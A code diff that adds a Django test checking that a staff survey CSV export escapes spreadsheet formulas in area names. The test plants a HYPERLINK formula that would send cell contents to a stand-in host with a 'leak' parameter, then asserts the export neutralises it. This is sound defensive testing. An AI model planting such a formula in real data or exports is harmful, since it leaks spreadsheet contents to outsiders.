@@ -267,3 +267,19 @@ def test_the_csv_gives_each_parts_level_and_lists_no_street_given_last_in_englis
     with translation.override("pl"):
         page = results_for(area=riverside, round_=q)
     assert [c.name for c in page.children] == ["Ash Road", "Nie podano ulicy", "Oak Road"]
+
+
+def test_the_csv_export_writes_names_a_spreadsheet_would_run_as_text(client):
+    from areas.models import Area
+    from tests.factories import make_staff
+
+    ward = Area.objects.filter(level="ward").order_by("code").first()
+    ward.name = '=HYPERLINK("http://example.test/?leak="&A1)'
+    ward.save()
+    round_at(2025, 1)
+    client.force_login(make_staff("x.officer@example.test", "officer", [ward]))
+
+    body = client.get(f"/staff/surveys/export.csv?area={ward.code}").content.decode()
+
+    assert "'=HYPERLINK(" in body
+    assert ",=HYPERLINK(" not in body and '"=HYPERLINK(' not in body
